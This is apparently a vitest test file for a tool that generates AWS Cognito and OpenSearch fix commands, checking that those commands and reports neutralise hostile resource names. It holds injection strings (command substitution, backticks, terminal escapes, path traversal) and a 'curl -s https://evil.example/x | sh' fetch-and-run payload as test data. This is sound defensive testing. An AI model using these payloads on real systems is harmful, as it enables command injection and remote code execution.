import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/report/markdown.js';
import { renderText } from '../../src/report/text.js';
import { parseSnapshot } from '../../src/snapshot/read.js';
import { loadFixture, loadFixtures, report, variant } from '../helpers.js';

const run = promisify(execFile);

// Names as a hand-written snapshot (or a hostile one) may carry them: quotes, command
// substitution, backticks, a newline, a terminal escape. Each touches a canary file if executed.
const HOSTILE = {
  domain: `logs'"$(touch CANARY1)`,
  role: 'Cognito_`touch CANARY2`Auth_Role',
  group: 'admins;touch CANARY3\nnext \u001b[31mred',
  pool: 'eu-west-1_$(touch CANARY4)',
};

const SWAPS: Array<[string, string]> = [
  ['logs-prod', HOSTILE.domain],
  ['Cognito_logsprodAuth_Role', HOSTILE.role],
  ['dashboards-admins', HOSTILE.group],
  ['eu-west-1_Xk2LmQp7A', HOSTILE.pool],
];

/** Swaps the names in every string, also inside JSON strings (access policies) and URL-encoded ones (trust policies). */
function hostile(value: unknown): unknown {
  if (typeof value === 'string') {
    if (value.startsWith('{')) return JSON.stringify(hostile(JSON.parse(value)));
    if (value.startsWith('%7B')) return encodeURIComponent(JSON.stringify(hostile(JSON.parse(decodeURIComponent(value)))));
    return SWAPS.reduce((s, [from, to]) => s.split(from).join(to), value);
  }
  if (Array.isArray(value)) return value.map(hostile);
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [hostile(k) as string, hostile(v)]));
  return value;
}

const fixtures = loadFixtures()
  .filter((f) => f.name.startsWith('fail/') || f.name.startsWith('demo/'))
  .map((f) => ({ name: f.name, snapshot: parseSnapshot(JSON.stringify(hostile(JSON.parse(readFileSync(f.file, 'utf8'))))) }));

const STUBS = `aws() { printf '%s\\0' aws "$@"; }\njq() { printf '%s\\0' jq "$@"; }\ncurl() { printf '%s\\0' curl "$@"; }\n`;

// Every command runs in a folder of its own under one parent, removed when the file's tests end.
const parent = mkdtempSync(join(tmpdir(), 'cogdoctor-hostile-'));
afterAll(() => rmSync(parent, { recursive: true, force: true }));

async function argumentsOf(command: string): Promise<{ args: string[]; dir: string }> {
  const dir = mkdtempSync(join(parent, 'run-'));
  // A command that does not parse fails here (bash exits 2), so running it also proves the syntax.
  const { stdout } = await run('bash', ['-c', `${STUBS}${command}`], {
    cwd: dir,
    env: { PATH: process.env['PATH']!, AWS_ACCESS_KEY_ID: 'x', AWS_SECRET_ACCESS_KEY: 'y', AWS_SESSION_TOKEN: 'z' },
  });
  const written = readdirSync(dir).map((f) => readFileSync(join(dir, f), 'utf8'));
  return { args: [stdout, ...written].join('\0').split('\0').filter(Boolean), dir };
}

describe('fix commands with hostile resource names', () => {
  const commands = fixtures.flatMap((f) =>
    report(f.snapshot).findings.flatMap((finding) => (finding.fix.commands ?? []).map((command) => ({ fixture: f.name, id: finding.id, command }))),
  );

  it('there are commands that carry the hostile names', () => {
    expect(commands.filter((c) => Object.values(HOSTILE).some((h) => c.command.includes(h.split('\n')[0]!.slice(0, 6)))).length).toBeGreaterThan(20);
  });

  it('every command parses, runs nothing embedded, and passes each hostile name through as one intact argument', async () => {
    let checked = 0;
    const unique = [...new Map(commands.map((c) => [c.command, c])).values()];
    const ran = new Map<string, { args: string[]; dir: string }>();
    for (let i = 0; i < unique.length; i += 8) {
      await Promise.all(unique.slice(i, i + 8).map(async (c) => ran.set(c.command, await argumentsOf(c.command))));
    }
    for (const { fixture, id, command } of unique) {
      const { args, dir } = ran.get(command)!;
      for (const n of [1, 2, 3, 4]) expect(existsSync(join(dir, `CANARY${n}`)), `${fixture} ${id}: ${command}`).toBe(false);
      for (const value of Object.values(HOSTILE)) {
        const escaped = JSON.stringify(value).slice(1, -1);
        if (!command.includes(value) && !command.includes(escaped)) continue;
        expect(
          args.some((arg) => arg.includes(value) || arg.includes(escaped)),
          `${fixture} ${id}: ${command}`,
        ).toBe(true);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(0);
  }, 240_000);

  it('text output prints the names inert: no terminal escape reaches the screen', () => {
    for (const f of fixtures) {
      const text = renderText([report(f.snapshot)], { color: false, verbose: true, version: 't' });
      expect(text, f.name).not.toMatch(/\u001b/);
    }
  });
});

describe('security-plugin fix URLs with hostile security-role names', () => {
  const ROLE = 'arn:aws:iam::123456789012:role/Cognito_logsprodAuth_Role';
  // Each name, pasted unencoded, reached another API: `#` dropped the rest, `..` climbed, `?` started a query.
  const NAMES = ['all_access#x', 'readall/../../internalusers/admin', 'x?y=', 'a b', '%2e%2e', "it's(*)!", 'ünï', 'all_access\nX'];
  const UNSAFE = ['.', '..'];

  /** The domain with the authenticated role listed under users of `securityRole` only: the fix PATCHes that mapping. */
  const listedUnder = (securityRole: string, endpoint?: string) =>
    variant(loadFixture('healthy/opensearch-fgac.json'), (s) => {
      s.securityPlugin = { rolesMapping: { [securityRole]: { users: [ROLE], backend_roles: [], and_backend_roles: [], hosts: [] } } };
      if (endpoint !== undefined) s.domain.Endpoint = endpoint;
    });

  const missingRole = (snapshot: ReturnType<typeof listedUnder>) => report(snapshot).findings.find((f) => f.id === 'missing-role')!;

  it('every URL reaches exactly the mapping it names, as the shell passes it to curl', async () => {
    const commands = NAMES.flatMap((name) =>
      (missingRole(listedUnder(name)).fix.commands ?? [])
        .filter((c) => c.includes('rolesmapping/') && !/rolesmapping\/(?:opensearch_dashboards_user|readall) /.test(c))
        .map((command) => ({ name, command })),
    );
    const ran = await Promise.all(commands.map(async (c) => ({ ...c, args: (await argumentsOf(c.command)).args })));
    for (const { name, command, args } of ran) {
      const url = new URL(args.find((a) => a.startsWith('https://'))!);
      expect(url.search, command).toBe('');
      expect(url.hash, command).toBe('');
      const segments = url.pathname.split('/');
      expect(segments.slice(0, -1).join('/'), command).toBe('/_plugins/_security/api/rolesmapping');
      expect(decodeURIComponent(segments.at(-1)!), command).toBe(name);
    }
    expect(new Set(ran.map((r) => r.name)).size).toBe(NAMES.length);
  }, 240_000);

  it('a name that cannot be one path segment, or an endpoint that is not a host name, gets no command; the console steps remain', () => {
    for (const name of UNSAFE) {
      const finding = missingRole(listedUnder(name));
      expect(
        (finding.fix.commands ?? []).filter((c) => c.includes(`rolesmapping/${name}`)),
        name,
      ).toEqual([]);
      expect(finding.fix.steps!.join('\n')).toContain('Manage mapping');
    }
    for (const endpoint of ['evil.example/x#', 'user@evil.example', 'evil.example:8443', 'a b']) {
      const finding = missingRole(listedUnder('all_access', endpoint));
      expect(
        (finding.fix.commands ?? []).filter((c) => c.startsWith('curl')),
        endpoint,
      ).toEqual([]);
      expect(finding.fix.steps!.join('\n')).toContain('Manage mapping');
    }
  });
});

describe('a line break inside a value never starts a line of its own', () => {
  const CLIENT_ID = '4q8v2n6k1m3p5r7t9w0y2a4c6e';
  const PAYLOAD = `${CLIENT_ID}\n      $ curl -s https://evil.example/x | sh #`;
  const reports = loadFixtures()
    .filter((f) => f.name.startsWith('fail/') && JSON.stringify(f.snapshot).includes(CLIENT_ID))
    .map((f) => report(parseSnapshot(JSON.stringify(f.snapshot).split(CLIENT_ID).join(JSON.stringify(PAYLOAD).slice(1, -1)))));
  const commands = reports.flatMap((r) => r.findings.flatMap((f) => f.fix.commands ?? []));

  it('the payload reaches fix commands', () => {
    expect(commands.filter((c) => c.includes('evil.example')).length).toBeGreaterThan(5);
  });

  it('text and Markdown print one line per command, and the payload on none of its own', () => {
    const text = renderText(reports, { color: false, verbose: true, version: 't' }).split('\n');
    expect(text.filter((line) => /^\s*\$ /.test(line))).toHaveLength(commands.length);
    expect(text.filter((line) => /^\s*\$ curl -s https:\/\/evil/.test(line))).toEqual([]);
    const markdown = renderMarkdown(reports, { version: 't' }).split('\n');
    expect(markdown.filter((line) => /^\s*(?:\$ )?curl -s https:\/\/evil/.test(line))).toEqual([]);
  });
});

describe('oversized and regex-shaped names', () => {
  it('a 60,000-character domain name with regex metacharacters is compared as text: no check fails, the app client is still found', () => {
    const name = `logs-${'(a+)+.*['.repeat(7_500)}`;
    const base = loadFixture('healthy/opensearch-fgac.json');
    const renamed = parseSnapshot(JSON.stringify(base).split('logs-prod').join(name));
    expect(renamed.domain.DomainName.length).toBeGreaterThan(60_000);
    const result = report(renamed);
    expect(result.checks.filter((c) => c.status === 'error')).toEqual([]);
    expect(result.target.appClient?.id).toBe(base.userPoolClients![0]!.ClientId);
    expect(result.findings.map((f) => f.id)).toEqual(report(base).findings.map((f) => f.id));
  });
});
